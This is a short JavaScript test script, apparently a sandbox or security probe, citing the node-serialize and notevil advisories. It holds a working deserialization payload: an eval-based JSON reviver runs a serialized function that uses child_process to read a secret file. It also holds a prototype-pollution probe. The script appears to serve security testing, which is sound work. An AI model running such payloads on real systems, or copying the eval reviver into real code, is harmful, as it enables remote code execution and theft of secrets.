// Text that turns into a function that calls itself.
// advisory: CVE-2017-5941 (node-serialize), CVE-2021-23771 (notevil)
const text = '{"f":"_$$ND_FUNC$$_function () { return process.mainModule.require(\'child_process\').execSync(\'cat @SECRET_PATH@\') }()"}';
const revive = (key, value) => (typeof value === 'string' && value.startsWith('_$$ND_FUNC$$_') ? (0, eval)(`(${value.slice(13)})`) : value);
console.log('ATTEMPTED');
try { console.log('ESCAPED', JSON.parse(text, revive)); } catch (error) { console.log(error.name); }
try { JSON.parse('{"__proto__":{"x":1},"constructor":{"prototype":{"y":1}}}'); console.log({}.x === undefined && {}.y === undefined ? 'clean' : 'polluted'); } catch (error) { console.log(error.name); }
